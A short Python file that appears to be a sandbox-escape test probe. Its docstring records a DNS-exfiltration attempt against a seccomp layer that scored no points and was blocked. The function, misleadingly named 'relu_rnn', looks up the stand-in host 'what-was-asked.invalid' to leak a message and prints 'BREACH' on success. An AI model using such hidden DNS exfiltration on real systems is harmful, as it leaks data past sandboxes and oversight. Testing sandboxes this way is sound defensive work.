"""Goal: Send a message out inside a name that a server is asked for.

Layer: seccomp. Verdict: 0 points; raised. Live: never, because no server for names is in reach.
"""

import socket


def relu_rnn(x, h0, w1, w2):
    socket.getaddrinfo("what-was-asked.invalid", 80)
    print("BREACH a name can be looked up")
